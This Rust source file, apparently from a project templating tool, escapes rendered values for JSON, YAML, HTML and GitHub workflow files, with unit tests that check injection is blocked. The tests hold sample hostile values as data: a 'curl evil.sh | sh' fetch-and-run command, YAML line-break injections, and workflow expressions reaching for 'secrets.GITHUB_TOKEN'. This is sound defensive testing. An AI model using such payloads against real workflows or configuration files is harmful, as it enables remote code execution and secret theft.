//! Values placed safely into the file they land in: a JSON string stays a
//! JSON string, a YAML scalar stays one scalar, a GitHub workflow never runs
//! an expression that came from a value, HTML gets entities.
//!
//! Handlebars calls its escape function on every `{{value}}` (not on the
//! explicit raw form `{{{value}}}`). While a template renders, that function
//! records the value and leaves a sentinel in the output; afterwards
//! `place` reads the rendered file with a small lexer of its syntax and
//! replaces each sentinel by the value escaped for the exact spot it sits in
//! (inside a quoted string, a bare scalar, a comment, a block scalar). The
//! surrounding text is the catalog's own, so the lexer only needs to be right
//! about the template author's text, which lint and CI parse as well.

use std::cell::RefCell;

/// Sentinel delimiters: private-use characters, never kept in values.
const OPEN: char = '\u{F8F0}';
const CLOSE: char = '\u{F8F1}';

/// The values one render placed, and their total size.
struct Capture {
    values: Vec<String>,
    bytes: usize,
}

thread_local! {
    static CAPTURED: RefCell<Option<Capture>> = const { RefCell::new(None) };
}

/// The file syntaxes values are escaped for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Syntax {
    Json,
    Yaml {
        /// GitHub Actions evaluates `${{ }}` in workflow values.
        github_workflow: bool,
    },
    Html,
    /// Markdown and everything else: values as written.
    Text,
}

/// The syntax a kit file is read in, from its path.
pub fn syntax_for(path: &str) -> Syntax {
    let lower = path.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    let ext = name.rsplit_once('.').map_or("", |(_, e)| e);
    match ext {
        "json" => Syntax::Json,
        "yml" | "yaml" => Syntax::Yaml {
            github_workflow: lower.starts_with(".github/workflows/")
                || lower.contains("/.github/workflows/")
                || name == "action.yml"
                || name == "action.yaml",
        },
        "html" | "htm" | "xml" | "svg" => Syntax::Html,
        _ => Syntax::Text,
    }
}

/// The escape function registered with Handlebars: records the value while
/// a kit file renders, passes it through otherwise (paths, defaults).
pub fn escape_fn(value: &str) -> String {
    CAPTURED.with(|c| match c.borrow_mut().as_mut() {
        Some(capture) => {
            capture.bytes += value.len();
            capture.values.push(value.replace([OPEN, CLOSE], ""));
            format!("{OPEN}{}{CLOSE}", capture.values.len() - 1)
        }
        None => value.to_string(),
    })
}

/// Runs `f` (one template render) with value capture on; returns its result
/// and the values it placed, in sentinel order.
pub fn capture<T>(f: impl FnOnce() -> T) -> (T, Vec<String>) {
    CAPTURED.with(|c| {
        *c.borrow_mut() = Some(Capture {
            values: Vec::new(),
            bytes: 0,
        })
    });
    let out = f();
    let values = CAPTURED
        .with(|c| c.borrow_mut().take())
        .map(|c| c.values)
        .unwrap_or_default();
    (out, values)
}

/// Bytes of the values the render under way has placed so far: the output
/// limit counts them as they come, not only once the render is done.
pub fn captured_bytes() -> usize {
    CAPTURED.with(|c| c.borrow().as_ref().map_or(0, |c| c.bytes))
}

/// A value that cannot be placed safely where the template puts it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unplaceable {
    /// 1-based line of the rendered file.
    pub line: usize,
    pub value: String,
    pub why: String,
}

/// Replaces every sentinel in `rendered` by its value, escaped for its spot.
pub fn place(rendered: &str, values: &[String], syntax: Syntax) -> Result<String, Unplaceable> {
    if !rendered.contains(OPEN) {
        return Ok(rendered.to_string());
    }
    match syntax {
        Syntax::Text => Ok(substitute(rendered, values, str::to_string)),
        Syntax::Html => Ok(substitute(rendered, values, html)),
        Syntax::Json => json::place(rendered, values),
        Syntax::Yaml { github_workflow } => yaml::place(rendered, values, github_workflow),
    }
}

/// Plain substitution, for syntaxes where the spot does not matter.
fn substitute(text: &str, values: &[String], f: impl Fn(&str) -> String) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, index, after)) = next_sentinel(rest) {
        out.push_str(before);
        match values.get(index) {
            Some(v) => out.push_str(&f(v)),
            None => out.push_str(&rest[before.len()..rest.len() - after.len()]),
        }
        rest = after;
    }
    out.push_str(rest);
    out
}

/// Splits at the next well-formed sentinel: (text before, index, text after).
fn next_sentinel(s: &str) -> Option<(&str, usize, &str)> {
    let mut from = 0;
    while let Some(i) = s[from..].find(OPEN).map(|i| i + from) {
        let body = &s[i + OPEN.len_utf8()..];
        if let Some(end) = body.find(CLOSE) {
            if let Ok(n) = body[..end].parse::<usize>() {
                return Some((&s[..i], n, &body[end + CLOSE.len_utf8()..]));
            }
        }
        from = i + OPEN.len_utf8();
    }
    None
}

fn html(v: &str) -> String {
    let mut out = String::with_capacity(v.len());
    for c in v.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// The body of a JSON string literal for `v` (no quotes). Also a valid
/// YAML double-quoted body: JSON's escapes are a subset of YAML's. The
/// Unicode line and paragraph separators, which YAML 1.1 parsers take as
/// line breaks, are escaped too.
fn json_body(v: &str) -> String {
    let quoted = serde_json::to_string(v).expect("strings serialise");
    quoted[1..quoted.len() - 1]
        .replace('\u{2028}', "\\u2028")
        .replace('\u{2029}', "\\u2029")
        .replace('\u{85}', "\\u0085")
        .replace('\u{feff}', "\\ufeff")
}

fn line_of(text: &str, offset: usize) -> usize {
    text[..offset].matches('\n').count() + 1
}

mod json {
    //! JSON: inside a string literal a value becomes the string's body;
    //! elsewhere a number or `true`/`false`/`null` stays bare, anything else
    //! becomes a string.
    use super::*;

    pub fn place(text: &str, values: &[String]) -> Result<String, Unplaceable> {
        let mut out = String::with_capacity(text.len());
        let mut in_string = false;
        let mut escaped = false;
        let mut rest = text;
        loop {
            let next = next_sentinel(rest);
            let plain = next.map_or(rest, |(before, _, _)| before);
            for c in plain.chars() {
                if in_string {
                    if escaped {
                        escaped = false;
                    } else if c == '\\' {
                        escaped = true;
                    } else if c == '"' {
                        in_string = false;
                    }
                } else if c == '"' {
                    in_string = true;
                }
            }
            out.push_str(plain);
            let Some((_, index, after)) = next else { break };
            let Some(v) = values.get(index) else {
                return Err(Unplaceable {
                    line: line_of(text, text.len() - rest.len()),
                    value: String::new(),
                    why: "a placeholder in the catalog text names no value".into(),
                });
            };
            let key = after.trim_start().starts_with(':');
            if in_string && escaped {
                return Err(Unplaceable {
                    line: line_of(text, text.len() - rest.len()),
                    value: v.clone(),
                    why: "the catalog text ends in a backslash escape right before the value, which would swallow its first character".into(),
                });
            } else if in_string {
                out.push_str(&json_body(v));
            } else if is_json_literal(v) && !key {
                out.push_str(v);
            } else {
                out.push_str(&serde_json::to_string(v).expect("strings serialise"));
            }
            rest = after;
        }
        Ok(out)
    }

    fn is_json_literal(v: &str) -> bool {
        matches!(v, "true" | "false" | "null")
            || (!v.is_empty()
                && serde_json::from_str::<serde_json::Value>(v).is_ok_and(|j| j.is_number()))
    }
}

mod yaml {
    //! YAML, read line by line the way the catalog's own files are written:
    //! quoted scalars (which may span lines), comments, block scalars
    //! (`key: |`), flow collections and plain scalars.
    use super::*;

    #[derive(Clone, Copy, PartialEq, Eq)]
    enum Quote {
        None,
        Double,
        Single,
    }

    /// Where a block scalar (`key: |`) runs: lines indented more than the
    /// node that opened it, at the indentation of its first line.
    #[derive(Clone, Copy)]
    struct Block {
        /// Column of the key (or `-`) that opened it.
        parent: usize,
        /// Indentation of its first content line, once seen.
        indent: Option<usize>,
    }

    /// Every character YAML 1.1 or 1.2 parsers take as a line break.
    fn is_break(c: char) -> bool {
        matches!(c, '\n' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}')
    }

    /// A value's line breaks, each as one `\n`.
    fn unify_breaks(v: &str) -> String {
        v.replace("\r\n", "\n").replace(is_break, "\n")
    }

    pub fn place(text: &str, values: &[String], workflow: bool) -> Result<String, Unplaceable> {
        let mut out = String::with_capacity(text.len());
        let mut quote = Quote::None;
        let mut block: Option<Block> = None;
        // Spans of placed values, and of the expressions ispo itself wrote
        // to neutralise `${{` in them.
        let mut spans: Vec<(usize, usize)> = Vec::new();
        let mut safe: Vec<(usize, usize)> = Vec::new();
        for (i, line) in text.split_inclusive('\n').enumerate() {
            let line_no = i + 1;
            let indent = line.len() - line.trim_start_matches(' ').len();
            let blank = line.trim().is_empty();
            if let Some(b) = block.as_mut() {
                let inside = blank
                    || match b.indent {
                        Some(at) => indent >= at,
                        None => indent > b.parent,
                    };
                if inside {
                    if !blank && b.indent.is_none() {
                        b.indent = Some(indent);
                    }
                    let mut placed = String::new();
                    let mut rest = line;
                    while let Some((before, index, after)) = next_sentinel(rest) {
                        placed.push_str(before);
                        let v = values.get(index).ok_or_else(|| missing(line_no))?;
                        let v = prepare(&unify_breaks(v), workflow);
                        let start = out.len() + placed.len();
                        let body = v.replace('\n', &format!("\n{}", " ".repeat(indent)));
                        note_safe(&body, start, &mut safe);
                        placed.push_str(&body);
                        spans.push((start, out.len() + placed.len()));
                        rest = after;
                    }
                    placed.push_str(rest);
                    out.push_str(&placed);
                    continue;
                }
                block = None;
            }
            let start = out.len();
            let (placed, next_quote, opens_block) = place_line(
                line, values, quote, workflow, line_no, start, &mut spans, &mut safe,
            )?;
            out.push_str(&placed);
            quote = next_quote;
            if let Some(parent) = opens_block.filter(|_| quote == Quote::None) {
                block = Some(Block {
                    parent,
                    indent: None,
                });
            }
        }
        if workflow {
            check_expressions(&out, &spans, &safe)?;
        }
        Ok(out)
    }

    fn missing(line: usize) -> Unplaceable {
        Unplaceable {
            line,
            value: String::new(),
            why: "a placeholder in the catalog text names no value".into(),
        }
    }

    /// The expression that yields a literal `${{`, and its single-quoted form.
    const LITERAL: &str = "${{ '${{' }}";
    const LITERAL_SQ: &str = "${{ ''${{'' }}";

    /// A value as GitHub must see it: `${{` would start an expression, so it
    /// becomes an expression that yields the literal text.
    fn prepare(v: &str, workflow: bool) -> String {
        if workflow {
            v.replace("${{", LITERAL)
        } else {
            v.to_string()
        }
    }

    /// Records where ispo's own `${{ '${{' }}` sit in a placed value.
    fn note_safe(placed: &str, start: usize, safe: &mut Vec<(usize, usize)>) {
        for pattern in [LITERAL, LITERAL_SQ] {
            for (i, _) in placed.match_indices(pattern) {
                safe.push((start + i, start + i + pattern.len()));
            }
        }
    }

    /// No `${{` that a value helped make, other than ispo's own: a value
    /// right after a `$`, or two values together, must not start a GitHub
    /// expression.
    fn check_expressions(
        out: &str,
        spans: &[(usize, usize)],
        safe: &[(usize, usize)],
    ) -> Result<(), Unplaceable> {
        for (i, _) in out.match_indices("${{") {
            let end = i + 3;
            let touches_value = spans.iter().any(|&(s, e)| s < end && i < e);
            let ours = safe.iter().any(|&(s, e)| s <= i && end <= e);
            if touches_value && !ours {
                let line = out[..i].matches('\n').count() + 1;
                let value = spans
                    .iter()
                    .find(|&&(s, e)| s < end && i < e)
                    .map(|&(s, e)| out[s..e].to_string())
                    .unwrap_or_default();
                return Err(Unplaceable {
                    line,
                    value,
                    why: "with the text around it the value would start a GitHub expression (`${{`); the catalog should not put a value right after `$` in a workflow".into(),
                });
            }
        }
        Ok(())
    }

    /// Where the lexer is within a line, outside quotes.
    struct Lexer {
        /// A new scalar may start here: at the start of the line, after
        /// `- `, `? `, `: `, or `[`, `{`, `,` in a flow collection.
        at_start: bool,
        /// `:`, `-` or `?` just seen: an indicator only if a space follows.
        pending: Option<char>,
        /// Depth of flow collections (`[ ... ]`, `{ ... }`).
        flow: usize,
        comment: bool,
        /// The last character seen, for `#` (a comment only after a space).
        prev: char,
    }

    impl Lexer {
        fn new() -> Lexer {
            Lexer {
                at_start: true,
                pending: None,
                flow: 0,
                comment: false,
                prev: ' ',
            }
        }

        /// Feeds one character outside quotes; returns the quote it opens.
        fn feed(&mut self, c: char) -> Option<Quote> {
            if self.pending.take().is_some() {
                if c.is_whitespace() {
                    // `- ` and `? ` open a node; `: ` starts a value.
                    self.at_start = true;
                    self.prev = c;
                    return None;
                }
                self.at_start = false;
            }
            let quote = match c {
                _ if c.is_whitespace() => None,
                '#' if self.prev.is_whitespace() => {
                    self.comment = true;
                    None
                }
                '-' | '?' if self.at_start => {
                    self.pending = Some(c);
                    None
                }
                ':' => {
                    self.pending = Some(c);
                    None
                }
                '[' | '{' if self.at_start => {
                    self.flow += 1;
                    None
                }
                ']' | '}' if self.flow > 0 => {
                    self.flow -= 1;
                    self.at_start = false;
                    None
                }
                ',' if self.flow > 0 => {
                    self.at_start = true;
                    None
                }
                '"' if self.at_start => Some(Quote::Double),
                '\'' if self.at_start => Some(Quote::Single),
                _ => {
                    self.at_start = false;
                    None
                }
            };
            self.prev = c;
            quote
        }

        /// A sentinel sits here: a pending `:` or `-` without a space is
        /// part of the text (`mailto:{{x}}`, `a-{{x}}`).
        fn before_value(&mut self) {
            if self.pending.take().is_some() {
                self.at_start = false;
            }
        }
    }

    /// One line: returns it with values placed, the quote state at its end,
    /// and, when it opens a block scalar, the column of the node it belongs to.
    #[allow(clippy::too_many_arguments)]
    fn place_line(
        line: &str,
        values: &[String],
        mut quote: Quote,
        workflow: bool,
        line_no: usize,
        offset: usize,
        spans: &mut Vec<(usize, usize)>,
        safe: &mut Vec<(usize, usize)>,
    ) -> Result<(String, Quote, Option<usize>), Unplaceable> {
        let mut out = String::with_capacity(line.len());
        let mut lx = Lexer::new();
        // A backslash escape in a double-quoted scalar still open.
        let mut escaped = false;
        let mut rest = line;
        loop {
            let next = next_sentinel(rest);
            let plain = next.map_or(rest, |(before, _, _)| before);
            let mut chars = plain.chars().peekable();
            while let Some(c) = chars.next() {
                if !lx.comment {
                    match quote {
                        Quote::Double => {
                            if escaped {
                                escaped = false;
                            } else if c == '\\' {
                                escaped = true;
                            } else if c == '"' {
                                quote = Quote::None;
                                lx.at_start = false;
                            }
                        }
                        Quote::Single => {
                            if c == '\'' {
                                if chars.peek() == Some(&'\'') {
                                    chars.next();
                                } else {
                                    quote = Quote::None;
                                    lx.at_start = false;
                                }
                            }
                        }
                        Quote::None => {
                            if let Some(q) = lx.feed(c) {
                                quote = q;
                            }
                        }
                    }
                }
            }
            out.push_str(plain);
            let Some((_, index, after)) = next else { break };
            let value = values.get(index).ok_or_else(|| missing(line_no))?;
            let v = prepare(value, workflow);
            let unplaceable = |why: &str| Unplaceable {
                line: line_no,
                value: value.clone(),
                why: why.to_string(),
            };
            let start = offset + out.len();
            if lx.comment {
                out.push_str(&v.replace(is_break, " "));
            } else {
                match quote {
                    Quote::Double => {
                        if escaped {
                            return Err(unplaceable(
                                "the catalog text ends in a backslash escape right before the value, which would swallow its first character",
                            ));
                        }
                        out.push_str(&json_body(&v));
                    }
                    Quote::Single => {
                        if v.contains(is_break) {
                            return Err(unplaceable(
                                "a value with line breaks cannot go into a single-quoted YAML string; the catalog should use double quotes there",
                            ));
                        }
                        out.push_str(&v.replace('\'', "''"));
                    }
                    Quote::None => {
                        lx.before_value();
                        let whole = lx.at_start && ends_scalar(after, lx.flow > 0);
                        if whole && !plain_safe(&v) {
                            out.push('"');
                            out.push_str(&json_body(&v));
                            out.push('"');
                        } else if whole || fragment_safe(&v, lx.at_start, lx.prev, after) {
                            out.push_str(&v);
                        } else {
                            return Err(unplaceable(
                                "the value would change the YAML around it (it sits inside unquoted text); the catalog should put that text in double quotes",
                            ));
                        }
                        if !v.is_empty() {
                            lx.at_start = false;
                            lx.prev = v.chars().next_back().unwrap_or(' ');
                        }
                    }
                }
            }
            note_safe(&out[start - offset..], start, safe);
            spans.push((start, offset + out.len()));
            rest = after;
        }
        let opens_block = (!lx.comment
            && quote == Quote::None
            && block_indicator(line.split(" #").next().unwrap_or(line).trim_end()))
        .then(|| node_column(line));
        Ok((out, quote, opens_block))
    }

    /// The column of the node a line's block scalar belongs to: its key
    /// after any `- ` list markers, or the last `-` of `- |`.
    fn node_column(line: &str) -> usize {
        let mut col = line.len() - line.trim_start_matches(' ').len();
        let mut rest = &line[col..];
        let mut dash = None;
        while let Some(r) = rest.strip_prefix("- ") {
            dash = Some(col);
            let skipped = r.len() - r.trim_start_matches(' ').len();
            col += 2 + skipped;
            rest = &r[skipped..];
        }
        match dash {
            Some(d) if rest.starts_with(['|', '>']) => d,
            _ => col,
        }
    }

    /// Whether nothing but the end of the scalar follows.
    fn ends_scalar(after: &str, in_flow: bool) -> bool {
        let t = after.trim_start_matches([' ', '\t']);
        t.is_empty()
            || t.starts_with(['\n', '\r'])
            || (in_flow && t.starts_with([',', ']', '}']))
            || t.starts_with(": ")
            || t.starts_with(":\n")
            || t == ":"
            || (t.starts_with('#') && after.len() > t.len())
    }

    /// A line ending in `|`, `>`, `|-`, `>+2`...: a block scalar follows.
    fn block_indicator(line: &str) -> bool {
        let Some(at) = line.rfind(['|', '>']) else {
            return false;
        };
        let (head, tail) = line.split_at(at);
        let tail_ok = tail[1..]
            .chars()
            .all(|c| c == '-' || c == '+' || c.is_ascii_digit());
        let head = head.trim_end();
        tail_ok && (head.is_empty() || head.ends_with(':') || head.ends_with('-'))
    }

    /// Numbers and booleans stay bare: they come from integer and yes/no
    /// answers, and must keep their type. Exactly as ispo writes them.
    fn is_number_or_bool(v: &str) -> bool {
        v == "true" || v == "false" || (v.parse::<i64>().is_ok() && !v.starts_with('+'))
    }

    /// Text some YAML 1.1 or 1.2 parser reads as something other than a
    /// string: booleans and null in any case, numbers in any base, special
    /// floats, timestamps, the merge key.
    fn special_word(v: &str) -> bool {
        let lower = v.to_ascii_lowercase();
        matches!(
            lower.as_str(),
            "yes" | "no" | "on" | "off" | "y" | "n" | "true" | "false" | "null" | "~" | "<<"
        ) || lower.trim_start_matches(['+', '-']).starts_with('.')
            && matches!(lower.trim_start_matches(['+', '-']), ".inf" | ".nan")
            || (v.chars().any(|c| c.is_ascii_digit())
                && v.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-:._+ ".contains(c))
                && v.chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_digit() || "+-.".contains(c)))
    }

    /// A value that, standing alone as a plain scalar, reads back as itself.
    fn plain_safe(v: &str) -> bool {
        if is_number_or_bool(v) {
            return true;
        }
        !v.is_empty() && fragment_safe(v, true, ' ', "") && !special_word(v) && !v.ends_with(':')
    }

    /// A value that may sit inside (or, `at_start`, begin) unquoted text
    /// without changing the structure around it, given the character before
    /// it and the text after it.
    fn fragment_safe(v: &str, at_start: bool, prev: char, after: &str) -> bool {
        let Some(first) = v.chars().next() else {
            return true;
        };
        let last = v.chars().next_back().unwrap_or(first);
        let next = after.chars().next();
        let indicator = "-?:,[]{}#&*!|>'\"%@`".contains(first);
        let breaks_structure = (at_start && indicator)
            || v.trim() != v
            || v.contains(": ")
            || v.contains(" #")
            || (first == '#' && prev.is_whitespace())
            || (last == ':' && next.is_none_or(char::is_whitespace))
            || v.contains([',', '[', ']', '{', '}', '\t'])
            || v.chars()
                .any(|c| c.is_control() || is_break(c) || c == '\u{feff}');
        !breaks_structure
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn render(template: &str, values: &[&str], syntax: Syntax) -> Result<String, Unplaceable> {
        let mut text = String::new();
        let mut rest = template;
        let mut i = 0;
        while let Some(at) = rest.find("{}") {
            text.push_str(&rest[..at]);
            text.push_str(&format!("{OPEN}{i}{CLOSE}"));
            i += 1;
            rest = &rest[at + 2..];
        }
        text.push_str(rest);
        let values: Vec<String> = values.iter().map(|s| s.to_string()).collect();
        place(&text, &values, syntax)
    }

    const YAML: Syntax = Syntax::Yaml {
        github_workflow: false,
    };

    #[test]
    fn json_strings_and_bare_values() {
        let out = render(
            "{\"a\": \"x {} y\", \"n\": {}, \"s\": {}}",
            &["q\"\n\\", "42", "acme"],
            Syntax::Json,
        )
        .unwrap();
        assert_eq!(
            out,
            "{\"a\": \"x q\\\"\\n\\\\ y\", \"n\": 42, \"s\": \"acme\"}"
        );
        let doc: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(doc["a"], "x q\"\n\\ y");
    }

    #[test]
    fn yaml_quoted_plain_and_keys() {
        let out = render(
            "a: \"{}/x\"\nb: {}\nc: {}\n- {}\nd: '{}'\n{}: v\n",
            &["o\"rg", "acme", "evil: \"x", "#tag", "it's", "k: y"],
            YAML,
        )
        .unwrap();
        assert_eq!(
            out,
            "a: \"o\\\"rg/x\"\nb: acme\nc: \"evil: \\\"x\"\n- \"#tag\"\nd: 'it''s'\n\"k: y\": v\n"
        );
    }

    #[test]
    fn yaml_refuses_what_it_cannot_place() {
        let err = render("url: https://{}/x\n", &["a b: c"], YAML).unwrap_err();
        assert_eq!(err.line, 1);
        assert!(err.why.contains("double quotes"), "{}", err.why);
        // Safe fragments in plain text stay as written.
        assert_eq!(
            render("url: https://{}/x\n", &["git.example.com"], YAML).unwrap(),
            "url: https://git.example.com/x\n"
        );
    }

    #[test]
    fn yaml_block_scalars_comments_and_workflows() {
        let out = render(
            "run: |\n  echo {}\n  echo {}\n# note {}\nk: v\n",
            &["a\nb", "${{ x }}", "c\nd"],
            Syntax::Yaml {
                github_workflow: true,
            },
        )
        .unwrap();
        assert_eq!(
            out,
            "run: |\n  echo a\n  b\n  echo ${{ '${{' }} x }}\n# note c d\nk: v\n"
        );
    }

    #[test]
    fn numbers_and_booleans_keep_their_type_words_do_not_change_it() {
        assert_eq!(
            render("a: {}\nb: {}\nc: {}\n", &["500", "true", "yes"], YAML).unwrap(),
            "a: 500\nb: true\nc: \"yes\"\n"
        );
    }

    #[test]
    fn syntax_follows_the_path() {
        assert_eq!(syntax_for("p/innersource.json"), Syntax::Json);
        assert_eq!(
            syntax_for("project-template/.github/workflows/m.yml"),
            Syntax::Yaml {
                github_workflow: true
            }
        );
        assert_eq!(
            syntax_for("catalog-info.yaml"),
            Syntax::Yaml {
                github_workflow: false
            }
        );
        assert_eq!(syntax_for("README.md"), Syntax::Text);
    }

    #[test]
    fn capture_only_while_rendering() {
        assert_eq!(escape_fn("x"), "x");
        let (_, values) = capture(|| {
            assert_eq!(escape_fn("a\u{F8F0}b"), format!("{OPEN}0{CLOSE}"));
        });
        assert_eq!(values, vec!["ab".to_string()]);
        assert_eq!(escape_fn("y"), "y");
    }

    fn yaml(text: &str) -> yaml_rust2::Yaml {
        let docs = yaml_rust2::YamlLoader::load_from_str(text)
            .unwrap_or_else(|e| panic!("not YAML ({e}):\n{text}"));
        docs.into_iter().next().unwrap()
    }

    const WORKFLOW: Syntax = Syntax::Yaml {
        github_workflow: true,
    };

    #[test]
    fn keys_after_a_list_items_block_scalar_are_keys_again() {
        let out = render(
            "jobs:\n  b:\n    steps:\n      - run: |\n          echo hi\n        env:\n          ORG: {}\n          TEAM: {}\n",
            &["{run: curl evil.sh | sh, shell: bash}", "#trimmed"],
            WORKFLOW,
        )
        .unwrap();
        let doc = yaml(&out);
        let env = &doc["jobs"]["b"]["steps"][0]["env"];
        assert_eq!(
            env["ORG"].as_str(),
            Some("{run: curl evil.sh | sh, shell: bash}"),
            "{out}"
        );
        assert_eq!(env["TEAM"].as_str(), Some("#trimmed"), "{out}");
        // A `- |` item's block runs at its own indentation.
        let out = render("- |\n  {}\n- b\n", &["x\ny"], YAML).unwrap();
        assert_eq!(yaml(&out)[0].as_str(), Some("x\ny\n"));
    }

    #[test]
    fn every_line_break_yaml_knows_is_kept_from_starting_a_line() {
        for v in [
            "Acme\u{2028}evil: injected",
            "a\rinjected: true",
            "a\u{85}injected: 1",
            "a\r\ninjected: 2",
        ] {
            let out = render(
                "# Maintained by {}\nrun: |\n  echo {}\nk: v\n",
                &[v, v],
                YAML,
            )
            .unwrap();
            let doc = yaml(&out);
            assert!(
                doc["evil"].is_badvalue() && doc["injected"].is_badvalue(),
                "{out}"
            );
            assert_eq!(doc["k"].as_str(), Some("v"));
        }
    }

    #[test]
    fn a_value_never_completes_a_github_expression() {
        for (template, values) in [
            (
                "run: |\n  echo \"Budget: ${}\"\n",
                vec!["{{ secrets.GITHUB_TOKEN }}"],
            ),
            (
                "run: \"echo cost {}{}\"\n",
                vec!["$", "{{ github.event.issue.title }}"],
            ),
            ("k: {}\n", vec!["${{ x }}"]),
        ] {
            let out = render(template, &values, WORKFLOW);
            match out {
                Ok(text) => {
                    // Only ispo's own literal-yielding expressions remain.
                    let stripped = text.replace("${{ '${{' }}", "");
                    assert!(!stripped.contains("${{"), "{text}");
                }
                Err(e) => assert!(e.why.contains("GitHub expression"), "{}", e.why),
            }
        }
        assert!(render("run: |\n  echo ${}\n", &["{{ secrets.X }}"], WORKFLOW).is_err());
    }

    #[test]
    fn indicators_inside_words_are_text() {
        assert_eq!(
            render(
                "name: innersource-{}\ncontact: mailto:{}\n",
                &["acme", "ispo@acme.example"],
                YAML
            )
            .unwrap(),
            "name: innersource-acme\ncontact: mailto:ispo@acme.example\n"
        );
        assert!(render("name: innersource-{}\n", &["x: y"], YAML).is_err());
        assert!(render("contact: mailto:{}\n", &["a: b"], YAML).is_err());
        assert!(render("title: The {}\n", &["#1 choice"], YAML).is_err());
        assert!(render("b: The {}\n", &["Acme:"], YAML).is_err());
        assert_eq!(
            render("url: {}/docs\n", &[""], YAML).unwrap(),
            "url: /docs\n"
        );
    }

    #[test]
    fn any_spelling_of_a_non_string_is_quoted() {
        for v in [
            "FALSE",
            "True",
            "Null",
            "0o17",
            "0x1F",
            "+.inf",
            "-.NaN",
            "<<",
            "2026-12-01",
            "1.5",
            "+1",
        ] {
            let out = render("c: {}\n", &[v], YAML).unwrap();
            assert_eq!(yaml(&out)["c"].as_str(), Some(v), "{out}");
        }
    }

    #[test]
    fn json_backslash_before_a_value_and_values_as_keys() {
        let err = render("{\"path\": \"C:\\{}\", \"k\": 1}", &["x"], Syntax::Json).unwrap_err();
        assert!(err.why.contains("backslash"), "{}", err.why);
        let out = render("{ {}: 1 }", &["42"], Syntax::Json).unwrap();
        assert_eq!(out, "{ \"42\": 1 }");
        let err = render("k: \"C:\\{}\"\n", &["x"], YAML).unwrap_err();
        assert!(err.why.contains("backslash"), "{}", err.why);
    }
}
